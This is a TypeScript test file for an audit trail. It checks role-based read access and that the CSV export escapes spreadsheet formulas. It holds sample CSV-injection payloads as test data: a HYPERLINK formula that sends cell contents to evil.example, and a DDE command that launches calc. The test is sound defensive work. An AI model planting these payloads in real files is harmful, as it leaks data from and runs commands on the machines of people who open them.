import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditRecord } from '../../server/audit/record.ts';
import { groupRuns, toCsv } from '../../src/components/audit/client/runs.ts';
import type { startMain } from '../support/main-process.ts';
import { api, idleWorkflows, startWithTargets, tokenIdentity } from './attack.ts';

/**
 * Reading the trail (issue 12, low): someone identified but granted nothing read the whole trail,
 * and the audit page's CSV export wrote what people typed (a reason, a workflow id) into cells a
 * spreadsheet runs as formulas. Now reading needs the viewer role, and the export escapes them.
 */
const REASON = '=HYPERLINK("https://evil.example/?leak="&A1,"details")';
const TERMINATED = '@SUM(1+1)';
const DESCRIBED = "-2+3+cmd|' /C calc'!A0";
let runsheet: Awaited<ReturnType<typeof startMain>>;
let idle: Awaited<ReturnType<typeof idleWorkflows>>;
let incidentId: string;

const as = (person: string | null, path: string, body?: unknown) =>
  api(runsheet.url, person && `${person}@example.com`, path, body);

beforeAll(async () => {
  [runsheet, idle] = await Promise.all([
    startWithTargets({
      identity: tokenIdentity({
        'ada@example.com': [{ role: 'admin' }],
        'vic@example.com': [{ role: 'viewer' }],
        'stranger@example.com': [],
      }),
    }),
    idleWorkflows(),
  ]);
  // What anyone who may run a step can type: a reason, and the workflow ids a run names.
  await idle.start(TERMINATED);
  const incident = await as('ada', '/api/incidents', { title: REASON, severity: 'P3' });
  incidentId = incident.body['id'] as string;
  const terminated = await as('ada', '/api/runs', {
    action: 'temporal.workflow.terminate',
    input: { workflowId: TERMINATED },
    confirm: true,
    reason: REASON,
  });
  expect(terminated.status).toBe(200);
  const described = await as('ada', '/api/runs', {
    action: 'temporal.workflow.describe',
    input: { workflowId: DESCRIBED },
    incidentId,
  });
  expect(described.body.error?.code).toBe('not_found');
});
afterAll(async () => {
  await Promise.all([runsheet?.stop(), idle?.close()]);
});

/** Every path that reads some of the trail, and the incident's Markdown export. */
const readers = () => [
  '/api/audit',
  '/api/audit/verify',
  '/api/incidents',
  `/api/incidents/${incidentId}`,
  `/api/incidents/${incidentId}/timeline`,
  '/api/approvals',
  '/api/drills/attempts',
];

describe('reading the trail', () => {
  it('is refused to someone identified but granted nothing, on every path and the export', async () => {
    for (const path of readers()) {
      const answer = await as('stranger', path);
      expect({ path, status: answer.status, error: answer.body.error }).toEqual({
        path,
        status: 403,
        error: expect.objectContaining({ code: 'permission_denied' }),
      });
    }
    expect((await as('stranger', '/api/audit')).body.error?.message).toBe(
      'Reading the audit trail needs the viewer role in staging, which stranger@example.com does not have.',
    );
  });

  it('is refused to no one in particular (no token)', async () => {
    for (const path of readers()) {
      expect({ path, status: (await as(null, path)).status }).toEqual({ path, status: 401 });
    }
  });

  it('is given to a viewer, export included', async () => {
    for (const path of readers()) {
      expect({ path, status: (await as('vic', path)).status }).toEqual({ path, status: 200 });
    }
    const timeline = await as('vic', `/api/incidents/${incidentId}/timeline`);
    expect(timeline.body['text']).toContain(DESCRIBED);
  });
});

/** The cells of each line of a CSV file (RFC 4180 quoting), unquoted. */
function csvCells(csv: string): string[][] {
  return csv
    .trimEnd()
    .split('\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, cell]) =>
        cell!.startsWith('"') ? cell!.slice(1, -1).replace(/""/g, '"') : cell!,
      ),
    );
}

describe("the audit page's CSV export of what the server recorded", () => {
  it('opens in a spreadsheet as text: no cell starts a formula', async () => {
    const { body } = await as('vic', '/api/audit?limit=1000');
    const records = body['records'] as AuditRecord[];
    // The server keeps what was typed as it was typed...
    expect(records).toContainEqual(expect.objectContaining({ kind: 'started', reason: REASON }));
    const rows = csvCells(toCsv(groupRuns(records)));
    const [header, ...runs] = rows;
    const column = (name: string) => header!.indexOf(name);
    const terminate = runs.find((row) => row[column('action')] === 'temporal.workflow.terminate');
    const describe = runs.find((row) => row[column('action')] === 'temporal.workflow.describe');
    // ...and the export writes it behind an apostrophe, which a spreadsheet shows and never runs.
    expect(terminate![column('reason')]).toBe(`'${REASON}`);
    expect(terminate![column('target')]).toBe(`'${TERMINATED}`);
    expect(describe![column('target')]).toBe(`'${DESCRIBED}`);
    for (const cell of runs.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
